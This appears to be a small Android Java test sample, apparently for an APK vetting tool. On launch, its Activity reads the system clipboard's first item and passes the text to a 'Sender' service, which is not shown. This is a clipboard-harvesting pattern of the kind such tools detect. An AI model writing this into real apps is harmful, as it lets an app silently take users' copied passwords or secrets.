package org.apkvet.clip.kept_other_extra;

import android.app.*;
import android.content.*;
import android.os.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        startService(new Intent(this, Sender.class).putExtra("text", copied()).putExtra("kind", "plain"));
    }

    private String copied() {
        return ((ClipboardManager) getSystemService("clipboard")).getPrimaryClip().getItemAt(0).getText().toString();
    }
}
